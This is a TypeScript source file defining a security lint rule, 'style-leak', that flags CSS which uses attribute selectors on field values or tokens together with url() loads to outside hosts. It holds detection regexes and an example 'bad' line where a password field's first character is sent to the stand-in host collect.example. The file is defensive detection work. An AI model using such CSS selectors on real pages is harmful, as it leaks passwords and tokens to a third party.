import { defineRule } from '../rule.ts';

/** A selector that asks how a value begins, ends or what it holds. */
const ASKS =
  /\[\s*(?:value|content|name|href|title|data-[\w-]*|[\w-]*(?:token|csrf|key|nonce))\s*[\^$*]=|\[\s*(?:value|content)\s*=/i;
const LOADS =
  /(?:background(?:-image)?|list-style(?:-image)?|content|cursor|border-image|src)\s*:\s*(?:\w+\s+)?url\(|@import\s+url\(/i;
const FOREIGN = /url\(\s*\\?["']?(?:(?:https?:)?\/\/|\0|$)/i;

export const styleLeak = defineRule({
  id: 'style-leak',
  severity: 'high',
  threat: 'exfiltration',
  title: 'A style sheet reads what people type',
  why: 'A rule that loads an address only where a field begins with a letter tells that letter to a server, one after the other.',
  fix: 'Take the rule out. No design depends on what a field holds.',
  example: {
    bad: 'const css = `input[type=password][value^="a"] { background: url(https://collect.example/a) }`;',
    good: 'const css = `input[type=search] { background: url(/glass.svg) }`;',
  },
  cwe: 200,
  visit: {
    text: (text, node, context) => {
      if (!text.includes('[') || !text.includes('url(')) return;
      if (ASKS.test(text) && LOADS.test(text) && FOREIGN.test(text))
        context.report(node, { message: 'This style tells a server what a field holds.' });
    },
  },
});
